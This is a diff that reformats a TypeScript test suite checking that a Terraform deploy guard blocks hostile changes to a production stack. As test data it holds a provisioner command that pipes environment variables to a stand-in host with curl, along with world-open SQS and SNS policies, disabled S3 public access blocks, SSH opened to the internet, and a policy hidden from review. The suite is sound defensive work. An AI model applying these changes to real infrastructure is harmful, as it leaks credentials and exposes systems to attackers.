@@ -35,11 +35,14 @@ function changedStack(edits: (stack: Stack) => void): string {
   return dir;
 }
 
-const anyonePolicy = (action: string) => JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: "*", Action: action, Resource: "*" }] });
+const anyonePolicy = (action: string) =>
+  JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: "*", Action: action, Resource: "*" }] });
 
 /** Rows 1 and 2: a command run with the deploy's credentials, and resources taken out of the state. */
 const commandsAndRemovals = (stack: Stack) => {
-  stack.resource.terraform_data = { innocuous: { input: "build info", provisioner: [{ "local-exec": { command: "env | curl -d @- https://collector.example" } }] } };
+  stack.resource.terraform_data = {
+    innocuous: { input: "build info", provisioner: [{ "local-exec": { command: "env | curl -d @- https://collector.example" } }] },
+  };
   const [flowLog] = resourceOf(stack, "aws_flow_log");
   const [association] = resourceOf(stack, "aws_wafv2_web_acl_association");
   delete stack.resource.aws_flow_log;
@@ -56,14 +59,26 @@ const overrides = (stack: Stack) => {
   resourceOf(stack, "aws_sqs_queue_policy", "messaging_queue-order-queue_policy")[1].policy = anyonePolicy("sqs:*");
   resourceOf(stack, "aws_kms_key")[1].is_enabled = false;
   resourceOf(stack, "aws_lb_listener", "load-balancer_https")[1].ssl_policy = "ELBSecurityPolicy-TLS-1-0-2015-04";
-  Object.assign(resourceOf(stack, "aws_s3_bucket_public_access_block")[1], { block_public_acls: false, block_public_policy: false, ignore_public_acls: false, restrict_public_buckets: false });
+  Object.assign(resourceOf(stack, "aws_s3_bucket_public_access_block")[1], {
+    block_public_acls: false,
+    block_public_policy: false,
+    ignore_public_acls: false,
+    restrict_public_buckets: false,
+  });
   resourceOf(stack, "aws_s3_bucket")[1].force_destroy = true;
   resourceOf(stack, "aws_cloudwatch_log_group")[1].retention_in_days = 1;
   resourceOf(stack, "aws_sqs_queue", "messaging_queue-order-queue_7")[1].message_retention_seconds = 60;
   Object.assign(resourceOf(stack, "aws_autoscaling_group")[1], { min_size: 0, max_size: 0, desired_capacity: 0 });
   const [group] = resourceOf(stack, "aws_security_group", "compute_");
-  stack.resource.aws_vpc_security_group_ingress_rule!.debug = { security_group_id: `\${aws_security_group.${group}.id}`, cidr_ipv4: "0.0.0.0/0", from_port: 22, to_port: 22, ip_protocol: "tcp" };
-  resourceOf(stack, "aws_sns_topic_policy", "messaging_")[1].policy = `\${sensitive(jsonencode({Version = "2012-10-17", Statement = [{Effect = "Allow", Principal = "*", Action = "sns:Publish", Resource = "*"}]}))}`;
+  stack.resource.aws_vpc_security_group_ingress_rule!.debug = {
+    security_group_id: `\${aws_security_group.${group}.id}`,
+    cidr_ipv4: "0.0.0.0/0",
+    from_port: 22,
+    to_port: 22,
+    ip_protocol: "tcp",
+  };
+  resourceOf(stack, "aws_sns_topic_policy", "messaging_")[1].policy =
+    `\${sensitive(jsonencode({Version = "2012-10-17", Statement = [{Effect = "Allow", Principal = "*", Action = "sns:Publish", Resource = "*"}]}))}`;
 };
 
 /**
@@ -96,7 +111,9 @@ describeTerraform("a hostile change to a deployed prod", () => {
     planned("overrides", changedStack(overrides), () => state);
     // Row 7: the state of one resource of prod's, as from a backend key pointed elsewhere.
     const one = JSON.parse(state) as { resources: { type: string }[] };
-    planned("elsewhere", synthesizedEnvironment(prod), () => JSON.stringify({ ...one, resources: one.resources.filter((r) => r.type === "aws_vpc") }));
+    planned("elsewhere", synthesizedEnvironment(prod), () =>
+      JSON.stringify({ ...one, resources: one.resources.filter((r) => r.type === "aws_vpc") }),
+    );
     planned("unchanged", synthesizedEnvironment(prod), () => state);
 
     swapped = (async () => {
@@ -110,12 +127,24 @@ describeTerraform("a hostile change to a deployed prod", () => {
       const stateDir = mkdtempSync(join(tmpdir(), "swapped-state-"));
       writeFileSync(join(stateDir, "prod.tfstate"), state);
       const marked = copyProject();
-      edit(marked, "envs/prod.ts", "export const prod", `require("node:fs").writeFileSync(${JSON.stringify(join(marked, "loaded"))}, "prod");\nexport const prod`);
+      edit(
+        marked,
+        "envs/prod.ts",
+        "export const prod",
+        `require("node:fs").writeFileSync(${JSON.stringify(join(marked, "loaded"))}, "prod");\nexport const prod`,
+      );
       const args = (digest: string) => ["prod", "--apply-saved", folder, "--digest", digest, "--offline", "--state", stateDir, "--yes"];
       const env = { PATH: `${standIn.dir}:${process.env.PATH}` };
-      const reviewedDigest = createHash("sha256").update(readFileSync(join(reviewed.workdir, "offline.tfplan"))).digest("hex");
-      const otherDigest = createHash("sha256").update(readFileSync(join(folder, "plan.tfplan"))).digest("hex");
-      const [r, o] = await Promise.all([runCli("deploy", args(reviewedDigest), { root: marked, env }), runCli("deploy", args(otherDigest), { root: marked, env })]);
+      const reviewedDigest = createHash("sha256")
+        .update(readFileSync(join(reviewed.workdir, "offline.tfplan")))
+        .digest("hex");
+      const otherDigest = createHash("sha256")
+        .update(readFileSync(join(folder, "plan.tfplan")))
+        .digest("hex");
+      const [r, o] = await Promise.all([
+        runCli("deploy", args(reviewedDigest), { root: marked, env }),
+        runCli("deploy", args(otherDigest), { root: marked, env }),
+      ]);
       return { reviewed: r, other: o, marked };
     })();
     swapped.catch(() => undefined);
@@ -173,7 +202,11 @@ describeTerraform("a hostile change to a deployed prod", () => {
       /^prod sets max_size of aws_autoscaling_group\.\S+ to 0 \(was 4\)$/,
       /^prod opens aws_vpc_security_group_ingress_rule\.debug to the internet: ingress port 22 from 0\.0\.0\.0\/0$/,
     ];
-    for (const finding of expected) expect(summary.risks.filter((r) => finding.test(r)), finding.source).toHaveLength(1);
+    for (const finding of expected)
+      expect(
+        summary.risks.filter((r) => finding.test(r)),
+        finding.source,
+      ).toHaveLength(1);
     const screen = firstScreen(summary);
     for (const risk of summary.risks) expect(screen).toContain(risk);
     expect(guard([summary]).blocked).toBe(true);
@@ -183,7 +216,13 @@ describeTerraform("a hostile change to a deployed prod", () => {
 
   it("row 5: blocks a policy wrapped in sensitive(), which would show as (sensitive) → (sensitive)", async () => {
     const summary = await summaryOf("overrides");
-    expect(summary.risks).toEqual(expect.arrayContaining([expect.stringMatching(/^prod hides aws_sns_topic_policy\.messaging_topic-policy_\S+ policy from review: it is newly marked sensitive/)]));
+    expect(summary.risks).toEqual(
+      expect.arrayContaining([
+        expect.stringMatching(
+          /^prod hides aws_sns_topic_policy\.messaging_topic-policy_\S+ policy from review: it is newly marked sensitive/,
+        ),
+      ]),
+    );
   });
 
   it("row 6: an owner's list that parses to nothing protects prod, and says so", async () => {
@@ -197,7 +236,11 @@ describeTerraform("a hostile change to a deployed prod", () => {
 
   it("row 7: blocks a plan that would create nearly all of prod against a state that holds one resource", async () => {
     const summary = await summaryOf("elsewhere");
-    expect(summary.risks).toEqual([expect.stringMatching(/^prod would create \d+ of its \d+ resources although its state holds 1: a state that is not this environment's/)]);
+    expect(summary.risks).toEqual([
+      expect.stringMatching(
+        /^prod would create \d+ of its \d+ resources although its state holds 1: a state that is not this environment's/,
+      ),
+    ]);
     expect(guard([summary]).blocked).toBe(true);
   });
 });
